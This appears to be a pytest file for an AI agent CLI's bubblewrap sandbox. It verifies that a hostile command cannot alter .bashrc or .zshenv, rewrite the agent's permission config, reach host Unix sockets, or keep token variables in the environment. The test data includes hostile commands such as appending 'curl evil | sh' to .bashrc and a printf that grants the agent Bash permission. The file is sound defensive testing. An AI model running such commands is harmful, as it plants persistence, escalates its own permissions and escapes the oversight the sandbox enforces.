"""An approved command turned hostile, under the real bubblewrap sandbox (workspace-write): it cannot change the
shell's start-up files a project in the home directory holds, cannot grant itself future permissions through
agentcli's own home, and cannot reach the host's abstract Unix sockets (a session bus, an X server, an agent)."""

from __future__ import annotations

import socket
import uuid
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from agentcli.sandbox.core import Sandbox
from agentcli.sandbox.env import scrub
from agentcli.tools.base import ToolContext
from tests.sandbox.helpers import bash, context, host_service, project, visible_home


@pytest.fixture
def root(tmp_path: Path) -> Path:
    return project(tmp_path)


def test_shell_start_up_files_stay_as_they_were(root: Path) -> None:
    (root / ".bashrc").write_text("# mine\n")
    ctx = context(root)
    out = bash(ctx, "echo 'curl evil | sh' >> .bashrc; echo x > .zshenv; mkdir -p .cursor && echo '{}' > "
                    ".cursor/mcp.json; ls -a")
    assert (root / ".bashrc").read_text() == "# mine\n", out.content
    assert not (root / ".zshenv").exists() and not (root / ".cursor").exists(), out.content


def test_agentcli_home_cannot_be_written_or_read(root: Path) -> None:
    ctx = context(root)
    assert ctx.sandbox is not None
    home = ctx.sandbox.spec.agentcli_home
    home.mkdir(parents=True)
    (home / "config.toml").write_text("[permissions]\nallow = []\n")
    out = bash(ctx, f"cat {home}/config.toml; printf '[permissions]\\nallow = [\"Bash\"]\\n' > {home}/config.toml; "
                    f"mkdir -p {home}/x && echo ok")
    assert (home / "config.toml").read_text() == "[permissions]\nallow = []\n", out.content
    assert not (home / "x").exists()
    assert "allow = []" not in out.content


def test_the_hosts_abstract_unix_sockets_are_out_of_reach(root: Path) -> None:
    name = f"agentcli-test-{uuid.uuid4().hex}"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind("\0" + name)
    server.listen(1)
    try:
        ctx = context(root)
        script = (f"import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0{name}'); print('CONNECTED')")
        out = bash(ctx, f"python3 -c \"{script}\" 2>&1 || echo REFUSED")
        assert "CONNECTED" not in out.content and "REFUSED" in out.content, out.content
        server.settimeout(0)
        with pytest.raises(BlockingIOError):
            server.accept()
    finally:
        server.close()


def test_tokens_and_passwords_by_any_name_leave_the_environment() -> None:
    env = {"VAULT_TOKEN": "v", "CI_JOB_TOKEN": "c", "SLACK_BOT_TOKEN": "s", "DB_PASSWD": "p", "SSH_PRIVATE_KEY": "k",
           "GIT_TERMINAL_PROMPT": "0", "PATH": "/bin", "TOKENIZERS_PARALLELISM": "false"}
    assert scrub(env) == {"GIT_TERMINAL_PROMPT": "0", "PATH": "/bin", "TOKENIZERS_PARALLELISM": "false"}


@pytest.fixture
def home() -> Iterator[Path]:
    with visible_home() as path:
        yield path


@pytest.fixture
def host_socket(home: Path) -> Iterator[tuple[Path, socket.socket]]:
    """A host service's socket where this test's session alone walks (not the real /run, which every other
    worker's sandbox walks and masks: removing a socket there raced with their start)."""
    with host_service(home) as found:
        yield found


def _connects(ctx: ToolContext, path: Path) -> str:
    script = f"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{path}'); print('CONNECTED')"
    return bash(ctx, f"python3 -c \"{script}\" 2>&1 || echo REFUSED").content


def test_a_host_services_unix_socket_is_out_of_reach_by_default(root: Path, home: Path,
                                                                host_socket: tuple[Path, socket.socket]) -> None:
    path, server = host_socket
    out = _connects(context(root, home=home), path)
    assert "CONNECTED" not in out and "REFUSED" in out, out
    server.settimeout(0)
    with pytest.raises(BlockingIOError):
        server.accept()


def test_an_allowed_host_socket_is_reachable(root: Path, home: Path, host_socket: tuple[Path, socket.socket]
                                             ) -> None:
    path, _ = host_socket
    ctx = context(root, home=home)
    assert ctx.sandbox is not None
    ctx.sandbox = Sandbox(replace(ctx.sandbox.spec, allowed_sockets=(path,)))
    assert "CONNECTED" in _connects(ctx, path)
